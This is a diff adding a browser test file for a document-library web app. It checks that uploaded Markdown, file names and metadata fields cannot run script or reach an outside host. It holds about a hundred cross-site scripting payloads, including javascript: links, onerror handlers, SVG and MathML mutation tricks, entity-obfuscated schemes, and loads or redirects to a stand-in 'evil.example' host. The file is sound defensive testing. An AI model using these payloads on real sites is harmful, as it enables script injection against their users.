@@ -1,0 +1,256 @@
+"""Hostile documents in a real browser: nothing of them runs, nothing is asked from elsewhere, nothing is refused.
+
+Each payload would set `window.ran`, open a dialog or ask `evil.example` if it got through. That the policy of the page
+refuses something counts as a failure too: it is the second wall, and nothing should reach it.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Iterator, Mapping
+
+import pytest
+from playwright.sync_api import Dialog, Page
+
+from tests.browser.conftest import OpenBrowser
+from tests.support.browser import Place, Visitor, until
+
+RUN = "window.ran=1;alert(1)"
+EVIL = "https://evil.example"
+
+LINKS = {
+    "javascript": f"[a](javascript:{RUN})",
+    "capitals": f"[a](JaVaScRiPt:{RUN})",
+    "angle brackets": f"[a](<javascript:{RUN}>)",
+    "entity": f"[a](javascript&colon;{RUN})",
+    "numbers": f"[a](&#106;&#97;&#118;ascript:{RUN})",
+    "hex numbers": f"[a](&#x6A;avascript:{RUN})",
+    "newline entity": f"[a](java&#10;script:{RUN})",
+    "tab entity": f"[a](java&Tab;script:{RUN})",
+    "control character": f"[a](\x01javascript:{RUN})",
+    "vbscript": f"[a](vbscript:{RUN})",
+    "data": f"[a](data:text/html,<script>{RUN}</script>)",
+    "data base64": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "file": "[a](file:///etc/passwd)",
+    "blob": f"[a](blob:{EVIL}/1)",
+    "view-source": f"[a](view-source:{EVIL})",
+    "autolink": f"<javascript:{RUN}>",
+    "autolink data": f"<data:text/html,<script>{RUN}</script>>",
+    "definition": f"[a][b]\n\n[b]: javascript:{RUN}",
+    "definition title": f'[a][b]\n\n[b]: https://x.example "\\" onmouseover=\\"{RUN}"',
+    "title": f"[a](https://x.example '\" autofocus onfocus={RUN} x=\"')",
+    "quote in address": f'[a](https://x.example/"onmouseover="{RUN})',
+    "base": f'<base href="{EVIL}/">\n\n[a](b)',
+    "protocol-relative": "[a](//evil.example/a)",
+    "backslashes": "[a](\\\\evil.example/a)",
+    "user info": f"[a](https://x.example@evil.example) <a href='javascript:{RUN}'>b</a>",
+}
+PICTURES = {
+    "picture": f"![a]({EVIL}/a.png)",
+    "picture onerror": f'![a"onerror="{RUN}](x)',
+    "picture in a link": f"[![a]({EVIL}/a.png)](javascript:{RUN})",
+    "picture javascript": f"![a](javascript:{RUN})",
+    "picture data svg": f"![a](data:image/svg+xml,<svg/onload={RUN}>)",
+    "picture reference": f"![a][b]\n\n[b]: {EVIL}/a.png",
+    "tag": f"<img src=x onerror={RUN}>",
+    "tag without a space": f"<img/src=x/onerror={RUN}>",
+    "tag srcset": f"<img srcset='{EVIL}/a.png 2x'>",
+    "tag open": f"<img src='x' onerror='{RUN}'",
+    "tag alt": f"<img alt='<script>{RUN}</script>' src={EVIL}/a.png>",
+    "picture tag": f"<picture><source srcset={EVIL}/a.png><img src={EVIL}/b.png></picture>",
+    "image tag": f"<image src=x onerror={RUN}>",
+    "input": f"<input type=image src={EVIL}/a.png onerror={RUN} autofocus>",
+    "video": f"<video poster={EVIL}/a.png onloadstart={RUN}><source src={EVIL}/a.mp4 onerror={RUN}></video>",
+    "audio": f"<audio src={EVIL}/a.mp3 onerror={RUN} autoplay></audio>",
+}
+TAGS = {
+    "script": f"<script>{RUN}</script>",
+    "script src": f"<script src={EVIL}/a.js></script>",
+    "script in script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+    "script in capitals": f"<SCRIPT>{RUN}</SCRIPT>",
+    "script with slash": f"<script/x>{RUN}</script>",
+    "script in a list": f"- <script>\n  {RUN}\n  </script>",
+    "script in a quote": f"> <script>{RUN}</script>",
+    "script in a table": f"| a |\n|---|\n| <script>{RUN}</script> |",
+    "script in a heading": f"# <script>{RUN}</script>",
+    "iframe": f"<iframe src=javascript:{RUN}></iframe>",
+    "iframe srcdoc": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
+    "object": f"<object data={EVIL}/a></object><embed src={EVIL}/b>",
+    "style": f"<style>@import '{EVIL}/a.css'; body{{background:url({EVIL}/b)}}</style>",
+    "style attribute": f"<p style='background:url({EVIL}/a)'>a</p>",
+    "link": f"<link rel=stylesheet href={EVIL}/a.css><link rel=prefetch href={EVIL}/b>",
+    "meta refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'>",
+    "form": f"<form action={EVIL}><input name=a><button autofocus onfocus={RUN}>b</button></form>",
+    "button formaction": f"<form><button formaction=javascript:{RUN}>a</button></form>",
+    "details": f"<details open ontoggle={RUN}><summary>a</summary>b</details>",
+    "marquee": f"<marquee onstart={RUN}>a</marquee>",
+    "body": f"<body onload={RUN} background={EVIL}/a.png>",
+    "any event": f"<p onclick={RUN} onmouseover={RUN} onpointerenter={RUN}>a</p>",
+    "autofocus": f"<a href=# autofocus onfocus={RUN} tabindex=1>a</a>",
+    "animation": f"<p onanimationstart={RUN} class=skeleton>a</p>",
+    "template": f"<template><img src=x onerror={RUN}></template>",
+    "portal": f"<portal src={EVIL}></portal><frameset onload={RUN}><frame src={EVIL}></frameset>",
+    "dialog": f"<dialog open onclose={RUN}>a</dialog>",
+    "custom element": f"<x-y onclick={RUN} is=script>a</x-y>",
+    "processing instruction": f"<?xml-stylesheet href='javascript:{RUN}'?>",
+    "conditional comment": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
+    "fence": f"```html\n<script>{RUN}</script>\n```",
+    "fence info": f'```"><script>{RUN}</script>\n```',
+    "code": f"`<img src=x onerror={RUN}>`",
+}
+MUTATIONS = {
+    "svg": f"<svg onload={RUN}><script>{RUN}</script></svg>",
+    "svg animate": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
+    "svg use": f"<svg><use href='{EVIL}/a.svg#b'/></svg>",
+    "svg foreign object": f"<svg><foreignObject><iframe src=javascript:{RUN}></iframe></foreignObject></svg>",
+    "svg style": f"<svg><style><img src=x onerror={RUN}></style></svg>",
+    "svg a": f"<svg><a xlink:href=javascript:{RUN}><text y=9>a</text></a></svg>",
+    "math": f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={RUN}>'></math>",
+    "math link": f"<math href=javascript:{RUN}>a</math>",
+    "math annotation": f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
+    "noscript": f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
+    "title in title": f"<title><a title='</title><img src=x onerror={RUN}>'></title>",
+    "textarea": f"<textarea><img title='</textarea><img src=x onerror={RUN}>'></textarea>",
+    "xmp": f"<xmp><img title='</xmp><img src=x onerror={RUN}>'></xmp>",
+    "listing": f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
+    "plaintext": f"<plaintext><img src=x onerror={RUN}>",
+    "select": f"<select><style></select><img src=x onerror={RUN}></style>",
+    "nested forms": f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}></style>",
+    "comment end": f"<!--> <img src=x onerror={RUN}> -->",
+    "comment bang": f"<!-- --!> <img src=x onerror={RUN}> -->",
+    "cdata": f"<![CDATA[<img src=x onerror={RUN}>]]>",
+    "cdata in svg": f"<svg><![CDATA[><img src=x onerror={RUN}>]]></svg>",
+    "nul": f"<scr\x00ipt>{RUN}</scr\x00ipt>",
+    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
+    "double entities": f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
+    "split emphasis": f"<im*g src=x onerror={RUN}*>",
+    "attribute break": f"<p title='\"><img src=x onerror={RUN}>'>a</p>",
+    "backticks": f"<p title=`><img src=x onerror={RUN}>`>a</p>",
+    "table foster": f"<table><td><img src=x onerror={RUN}></table><script>{RUN}</script>",
+    "deep": "<b>" * 600 + f"<img src=x onerror={RUN}>",
+    "clobbering": "<p id=leaves>a</p><a id=state name=one href=x>b</a><form id=text><input name=dataset></form>",
+    "our hooks": f"<p data-copy-text=a data-open=about data-verb=trash>a</p><a data-later href={EVIL}>b</a>",
+    "heading id": f'# A {{#x" onclick="{RUN}}}\n\n<h2 id="h-1" onclick={RUN}>b</h2>',
+    "front matter": f"---\ntitle: <img src=x onerror={RUN}>\nauthor: '<script>{RUN}</script>'\n---\n\n# a",
+    "template language": "{{ 7*7 }} {% include 'base.html' %} ${alert(1)} #{alert(1)}",
+}  # fmt: skip
+TEXTS: Mapping[str, Mapping[str, str]] = {"links": LINKS, "pictures": PICTURES, "tags": TAGS, "mutations": MUTATIONS}
+LABELS = {
+    "script": f"<script>{RUN}</script>",
+    "closing title": f"</title><script>{RUN}</script>",
+    "picture": f"<img src=x onerror={RUN}>",
+    "attribute": f'" autofocus onfocus="{RUN}" x="',
+    "single quote": f"' onmouseover='{RUN}",
+    "svg": f"</h1><svg onload={RUN}>",
+    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt;",
+    "template": "{{ 7*7 }}{% raw %}",
+    "javascript": f"javascript:{RUN}",
+    "right to left": "\u202egnp.\u202c<b>x</b>",
+    "option": f'"></option><script>{RUN}</script>',
+    "comment": f"--><img src=x onerror={RUN}><!--",
+}
+ASKED = """() => {
+  const allowed = new Set("A ABBR B BR CITE CODE DEL DFN EM I INS KBD MARK Q S SAMP SMALL STRONG SUB SUP U VAR WBR BLOCKQUOTE CAPTION DD DL DT H2 H3 H4 H5 H6 HR LI OL P PRE TABLE TBODY TD TFOOT TH THEAD TR UL DIV SPAN SECTION DETAILS SUMMARY NAV".split(" "));
+  const wrong = [];
+  for (const one of document.querySelectorAll(".window *")) {
+    if (!allowed.has(one.tagName)) wrong.push(one.outerHTML);
+  }
+  for (const one of document.querySelectorAll("*")) {
+    for (const { name, value } of one.attributes) {
+      if (name.startsWith("on") || name === "style" || name === "srcdoc") wrong.push(`${one.tagName} ${name}=${value}`);
+    }
+    if (one instanceof HTMLAnchorElement && one.hasAttribute("href") && !["http:", "https:", "mailto:"].includes(one.protocol)) wrong.push(one.outerHTML);
+  }
+  if (window.ran) wrong.push("it ran");
+  return wrong.map((one) => one.slice(0, 200));
+}"""  # noqa: E501 - a script
+
+
+def watch_dialogs(page: Page) -> list[str]:
+    opened: list[str] = []
+
+    def close(dialog: Dialog) -> None:
+        opened.append(dialog.message)
+        dialog.dismiss()
+
+    page.on("dialog", close)
+    return opened
+
+
+def look(visitor: Visitor, paths: Iterator[str]) -> None:
+    dialogs = watch_dialogs(visitor.page)
+    for path in paths:
+        page = visitor.open(path)
+        page.mouse.move(600, 300)
+        assert page.evaluate(ASKED) == [], path
+    assert dialogs == []
+    visitor.watch.check()
+
+
+def test_there_are_enough_of_them() -> None:
+    assert sum(map(len, TEXTS.values())) + len(LABELS) >= 100
+
+
+@pytest.mark.parametrize("kind", TEXTS)
+def test_a_hostile_text_does_nothing(member: Visitor, kind: str) -> None:
+    documents = [member.upload(f"{name}.md", f"{text}\n\nThe end.") for name, text in TEXTS[kind].items()]
+    member.wait_for_all(documents)
+    look(member, iter([*(f"/documents/{one}" for one in documents), "/library", "/library?view=cards"]))
+
+
+@pytest.mark.parametrize("kind", TEXTS)
+def test_hostile_texts_do_nothing_when_they_are_loaded_later(member: Visitor, kind: str) -> None:
+    """All in one document, in windows that a script puts on the page."""
+    filler = "\n\n".join("Words that fill the first window. " * 100 for _ in range(30))
+    hostile = "\n\nAnd then\n\n".join(TEXTS[kind].values())
+    document = member.add("all.md", f"{filler}\n\n{hostile}\n\n{filler}\n\nThe end.")
+    dialogs = watch_dialogs(member.page)
+    page = member.open(f"/documents/{document}")
+
+    def is_whole() -> bool:
+        page.evaluate("document.querySelector('#text').scrollTo(0, 1e7)")
+        return page.locator(".window").last.get_attribute("data-later") == ""
+
+    until(page, is_whole, "all of the text is there")
+    assert page.locator(".window").count() > 2
+    assert page.evaluate(ASKED) == []
+    assert dialogs == []
+
+
+def test_a_hostile_name_does_nothing(member: Visitor) -> None:
+    documents = [member.upload(f"{name}.md", f"Text {number}") for number, name in enumerate(LABELS.values())]
+    documents += [member.upload(f"{name}.bin", bytes([0, 1, number])) for number, name in enumerate(LABELS.values())]
+    member.wait_for_all(documents)
+    pages = [f"/documents/{one}" for one in documents]
+    forms = [f"/documents/{one}/{page}" for one in documents[:3] for page in ("edit", "history")]
+    look(member, iter([*pages, *forms, "/library", "/library?view=cards"]))
+
+
+Spoil = Callable[[str], dict[str, object]]
+FIELDS: dict[str, Spoil] = {
+    "title": lambda text: {"title": text},
+    "author": lambda text: {"author": text},
+    "tags": lambda text: {"tags": [text, "plain"]},
+    "collection": lambda text: {"collection": text},
+}
+
+
+@pytest.mark.parametrize("field", FIELDS)
+def test_what_people_write_about_a_document_does_nothing(member: Visitor, field: str) -> None:
+    documents = [member.upload(f"{number}.md", f"Text {number}") for number in range(len(LABELS))]
+    member.wait_for_all(documents)
+    for document, text in zip(documents, LABELS.values(), strict=True):
+        member.ask("PATCH", f"/documents/{document}", json=FIELDS[field](text))
+    pages = [f"/documents/{one}" for one in documents]
+    forms = [f"/documents/{one}/edit" for one in documents]
+    look(member, iter([*pages, *forms, "/library", "/library?view=cards"]))
+
+
+@pytest.mark.parametrize("field", ["title", "tags"])
+def test_hostile_words_in_an_address_do_nothing(place: Place, open_browser: OpenBrowser, field: str) -> None:
+    member = open_browser(place.sign_up())
+    document = member.add("a.md", "# A")
+    member.ask("PATCH", f"/documents/{document}", json=FIELDS[field](LABELS["attribute"]))
+    look(
+        member,
+        (f"/documents/{document}?{name}=%22%3E%3Cscript%3E{RUN}%3C/script%3E" for name in ("p", "at", "c", "panel")),
+    )
